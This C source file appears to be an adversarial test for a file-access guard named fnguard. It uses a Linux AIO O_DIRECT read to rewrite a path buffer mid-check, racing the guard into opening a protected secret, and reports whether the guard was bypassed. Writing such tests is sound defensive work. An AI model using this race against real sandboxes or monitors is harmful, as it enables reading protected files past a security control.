/*
 * lone_racer.c - adversarial test for fnguard (class: a single task racing its own check)
 *
 * fnguard skips the exit-stop verification of an open or connect while the
 * traced tree has only one task: no second task exists to rewrite the path
 * buffer or swap a symlink between the check and the kernel's use. A lone task
 * can still have the kernel write its memory beside it:
 *   aio_dma_race - Linux AIO (io_setup/io_submit) reads, with O_DIRECT, a file
 *                  holding FNG_SECRET's path into the very buffer the next
 *                  openat() names, which held a benign path when it was
 *                  submitted. The device's DMA lands whenever it lands: before
 *                  fnguard's check, after the kernel's read, or between them.
 * fnguard must treat such a task as raced (io_setup is watched): an fd on the
 * secret is a BYPASS.
 *
 * Env: FNG_SECRET, FNG_WORKDIR. Optional FNG_RACE_ATTEMPTS (default 3000).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "adv.h"

#define BLOCK 4096
#define BENIGN_CONTENT "benign\n"

/* The same length: the shorter path gets leading slashes ("///var/..."). */
static int pad_paths(const char *a, const char *b, char *pa, char *pb, size_t cap)
{
	size_t la = strlen(a), lb = strlen(b), n = la > lb ? la : lb;

	if (n + 1 > cap)
		return -1;
	memset(pa, '/', n - la);
	memcpy(pa + (n - la), a, la + 1);
	memset(pb, '/', n - lb);
	memcpy(pb + (n - lb), b, lb + 1);
	return (int)(n + 1);
}

static void aio_dma_race(const char *secret, const char *workdir, int attempts)
{
	static const char *name = "aio_dma_race";
	char benign[BLOCK], pa[BLOCK], pb[BLOCK], src[BLOCK];
	long hits = 0, benign_ok = 0, denied = 0, other = 0;
	aio_context_t ctx = 0;
	char *buf = NULL, *page = NULL;
	int len, fd, flags = O_RDONLY | O_DIRECT;

	snprintf(benign, sizeof benign, "%s/lone-benign", workdir);
	snprintf(src, sizeof src, "%s/lone-pathsrc", workdir);
	fd = open(benign, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, BENIGN_CONTENT, strlen(BENIGN_CONTENT)) < 0) {
		setup_failed(name, "benign file", errno);
		return;
	}
	close(fd);
	len = pad_paths(benign, secret, pa, pb, sizeof pa);
	if (len < 0 || posix_memalign((void **)&page, BLOCK, BLOCK) != 0) {
		report(name, ERRORED, "setup: paths too long or no memory");
		return;
	}
	memset(page, 0, BLOCK);
	memcpy(page, pb, (size_t)len);
	fd = open(src, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	if (fd < 0 || write(fd, page, BLOCK) != BLOCK || fsync(fd) < 0) {
		setup_failed(name, "path source file", errno);
		return;
	}
	close(fd);
	fd = open(src, flags);
	if (fd < 0 && errno == EINVAL) {
		flags &= ~O_DIRECT; /* no O_DIRECT here: AIO completes at submit */
		fd = open(src, flags);
	}
	if (fd < 0) {
		setup_failed(name, "open path source", errno);
		return;
	}
	if (syscall(SYS_io_setup, 8, &ctx) < 0) {
		setup_failed(name, "io_setup", errno);
		return;
	}
	buf = page;
	for (int i = 0; i < attempts; i++) {
		struct iocb cb = { 0 }, *cbs[1] = { &cb };
		struct io_event ev;
		int got;

		memset(buf, 0, BLOCK);
		memcpy(buf, pa, (size_t)len);
		cb.aio_lio_opcode = IOCB_CMD_PREAD;
		cb.aio_fildes = (uint32_t)fd;
		cb.aio_buf = (uint64_t)(uintptr_t)buf;
		cb.aio_nbytes = BLOCK;
		if (syscall(SYS_io_submit, ctx, 1, cbs) != 1) {
			setup_failed(name, "io_submit", errno);
			return;
		}
		got = (int)syscall(SYS_openat, AT_FDCWD, buf, O_RDONLY);
		if (got < 0) {
			if (is_denial(errno))
				denied++;
			else
				other++;
		} else {
			char c[64];
			ssize_t n = pread(got, c, sizeof c, 0);
			close(got);
			if (is_secret(c, n))
				hits++;
			else
				benign_ok++;
		}
		if (syscall(SYS_io_getevents, ctx, 1, 1, &ev, NULL) != 1) {
			setup_failed(name, "io_getevents", errno);
			return;
		}
	}
	syscall(SYS_io_destroy, ctx);
	close(fd);
	unlink(src);
	unlink(benign);
	free(page);
	if (hits)
		report(name, BYPASSED, "%ld/%d opens returned the secret (%s)", hits, attempts,
		       flags & O_DIRECT ? "O_DIRECT" : "buffered");
	else if (benign_ok == 0 && denied == 0)
		report(name, ERRORED, "race did not run: no open succeeded or was denied (other errors: %ld)", other);
	else
		report(name, DEFENDED, "0/%d opens returned the secret; benign %ld, denied %ld, other %ld (%s)",
		       attempts, benign_ok, denied, other, flags & O_DIRECT ? "O_DIRECT" : "buffered");
}

int main(void)
{
	const char *secret, *workdir, *n;

	adv_init();
	secret = need_env("FNG_SECRET");
	workdir = need_env("FNG_WORKDIR");
	n = getenv("FNG_RACE_ATTEMPTS");
	aio_dma_race(secret, workdir, n ? atoi(n) : 3000);
	return adv_exit_status();
}
